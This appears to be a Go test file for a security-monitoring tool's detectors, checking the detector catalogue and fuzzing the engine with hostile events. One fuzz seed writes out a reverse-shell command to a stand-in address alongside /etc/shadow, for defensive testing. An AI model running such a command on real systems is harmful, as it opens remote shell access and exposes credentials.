package detect_test

import (
	"bufio"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/detect"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/engine"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/pkg/coi"
)

// check is the test of every detector (T-W-02): its own samples, and the quiet
// samples of all others.
func check(t *testing.T, id string) {
	t.Helper()
	i := slices.IndexFunc(detect.All, func(d detect.Detector) bool { return d.ID == id })
	if i < 0 {
		t.Fatalf("%s is not in the catalogue", id)
	}
	d := detect.All[i]
	if len(d.Fire) == 0 || len(d.Quiet) == 0 || d.Title == "" || d.Why == "" || len(d.Wants) == 0 {
		t.Fatalf("%s lacks samples or words", id)
	}
	res := engine.TestRules(engine.Config{}, id)
	if res.Tested != 1 {
		t.Fatalf("%d rules tested; want 1", res.Tested)
	}
	for _, f := range res.Failed {
		t.Error(f)
	}
	cfg := engine.Config{Workspace: "/workspace", Home: "/home/code", User: "code"}
	for _, o := range detect.All {
		for _, s := range o.Quiet {
			if o.ID != id && s.Line != "" && s.Level == "" && engine.Judge(cfg, s, id).Rank() >= coi.High.Rank() {
				t.Errorf("pauses on the quiet line of %s: %s", o.ID, s.Line)
			}
		}
	}
}

// TestCatalogue compares the ids with the list that audit, the manual and
// allow entries rely on.
func TestCatalogue(t *testing.T) {
	f, err := os.Open("testdata/ids.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close() //nolint:errcheck // only read
	var want, got []string
	for s := bufio.NewScanner(f); s.Scan(); {
		want = append(want, strings.TrimSpace(s.Text()))
	}
	for _, d := range detect.All {
		got = append(got, d.ID)
	}
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(want, got) {
		t.Errorf("ids = %v; want %v", got, want)
	}
}

// FuzzDetectors feeds hostile events to all detectors: no panic, which the
// engine would report as a fault.
func FuzzDetectors(f *testing.F) {
	f.Add("exec", "bash -i >& /dev/tcp/198.51.100.7/1 0>&1", "/etc/shadow", "198.51.100.7")
	f.Add("authlog", "sudo: x : 3 incorrect password attempts", "", "")
	f.Add("rename", "", "/var/log/auth.log", "")
	f.Fuzz(func(t *testing.T, kind, text, path, peer string) {
		e := engine.New(engine.Config{Workspace: "/workspace", Locked: []string{"/workspace/.git/hooks"}})
		evs := []event.Event{
			{Type: event.Type(kind), PID: 3, PPID: 2, Path: path, Path2: text, Peer: peer, Text: text, Name: peer, N: map[string]float64{"target": 4, "pids": 1}},
			{Type: event.Exec, PID: 4, PPID: 3, Exe: path, Argv: []string{"bash", "-c", text}},
			{Type: event.Exec, PID: 5, PPID: 4, Exe: path, Argv: strings.Fields(text), Script: text, ScriptPath: path},
		}
		for _, ev := range evs {
			for _, found := range e.Process(ev) {
				if found.Rule == "sensor.fault" && !strings.Contains(found.Title, "slow") {
					t.Errorf("%s: %s", ev.Type, found.Title)
				}
			}
		}
	})
}
